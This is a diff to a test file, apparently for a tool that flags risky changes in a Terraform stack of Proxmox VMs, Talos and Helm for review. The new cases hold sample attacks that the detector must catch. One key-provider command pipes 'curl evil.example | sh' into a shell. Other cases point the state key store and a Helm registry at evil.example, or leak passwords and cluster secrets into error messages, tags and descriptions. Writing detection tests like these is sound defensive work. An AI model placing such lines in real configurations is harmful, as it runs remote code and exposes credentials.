@@ -1,3 +1,4 @@
+import { StateEncryption } from "../constructs";
 import {
   type Any,
   data,
@@ -28,6 +29,10 @@ const first = (type: string, change: object) => (changed: Inputs) =>
 const document = (kind: string, body: object = {}) => patch({ apiVersion: "v1alpha1", kind, name: "evil", ...body });
 const backend = (body: object) => (changed: Inputs) => {
   changed.stack.terraform.backend = body;
+};
+
+const encryption = (body: object) => (changed: Inputs) => {
+  changed.stack.terraform.encryption = body;
 };
 
 const linesOf = (stack: Inputs): string[] => summaryOf(pageFor(stack)).split("\n");
@@ -237,6 +242,60 @@ const machine: readonly Case[] = [
 ];
 
 const stack: readonly Case[] = [
+  [
+    "a program that gives the key of the state",
+    encryption({ key_provider: { external: { evil: { command: ["sh", "-c", "curl evil.example | sh"] } } } }),
+    /runs a program of this machine/,
+  ],
+  [
+    "a key of the state elsewhere",
+    encryption({ key_provider: { openbao: { evil: { address: "https://evil.example" } } } }),
+    /another key, or less that is encrypted/,
+  ],
+  ["plans in plain text", encryption({ plan: { method: "${method.unencrypted.x}" } }), /less that is encrypted/],
+  [
+    "a password in a message",
+    (changed) => {
+      changed.stack.variable.proxmox_password.validation = [
+        { condition: "${false}", error_message: "${nonsensitive(var.proxmox_password)}" },
+      ];
+    },
+    /Message in `variable[.]proxmox_password.*prints a secret/,
+  ],
+  [
+    "keys in a message",
+    (changed) => {
+      const { precondition } = changed.stack.resource.proxmox_virtual_environment_vm.talos_node.lifecycle;
+      precondition[0].error_message = "${jsonencode(talos_machine_secrets.cluster.machine_secrets)}";
+    },
+    /prints a secret/,
+  ],
+  [
+    "a password in Proxmox",
+    vm({ description: "${var.proxmox_password}" }),
+    /others may read it: var[.]proxmox_password/,
+  ],
+  ["keys in tags", vm({ tags: ["${talos_machine_secrets.cluster.machine_secrets}"] }), /others may read it/],
+  ["a password for a chart", values("cilium", { x: "${var.proxmox_password}" }), /is given to a chart/],
+  ["words as keys of an expression", patch('${yamlencode({machine = {pods = [{kind = "Pod"}]}})}'), /static pods/],
+  ["keys that an expression makes", patch('${yamlencode({(join("", ["machine"])) = {}})}'), /cannot read/],
+  ["keys with an expression in them", patch('${yamlencode({"${"machine"}" = {}})}'), /cannot read/],
+  [
+    "another release",
+    (changed) => {
+      changed.stack.resource.helm_release.cilium.name = "evil";
+    },
+    /how a chart is installed/,
+  ],
+  ["several VMs", vm({ count: 3 }), /how many there are/],
+  ["blocks that are made", vm({ dynamic: { hostpci: { for_each: [1], content: {} } } }), /does not read/],
+  [
+    "an administrator for longer",
+    (changed) => {
+      changed.stack.resource.talos_cluster_kubeconfig.cluster.certificate_renewal_duration = "87600h";
+    },
+    /administrator's access/,
+  ],
   ["a login to a registry", provider("helm", { registries: [{ url: "oci://evil.example" }] }), /settings of Helm/],
   ["a proxy of the Kubernetes API", provider("helm", { kubernetes: { proxy_url: "http://evil" } }), /another cluster/],
   [
@@ -311,6 +370,14 @@ describe.each<readonly [string, () => Inputs, readonly Case[]]>([
     const made = linesOf(changed).filter((each) => !known.has(each));
     expect(made.join("\n")).toMatch(line);
   });
+});
+
+test("the passphrase of StateEncryption is nothing to look at twice", () => {
+  const page = (migrate: boolean) => {
+    const stack = synthesizedJson((scope) => void new StateEncryption(scope, "encryption", { migrate }));
+    return summaryOf(pageFor({ ...inputs(), stack }));
+  };
+  for (const migrate of [true, false]) expect(page(migrate)).not.toContain("Terraform: `encryption`");
 });
 
 test("what the constructs for volumes do by themselves is nothing to look at twice", () => {
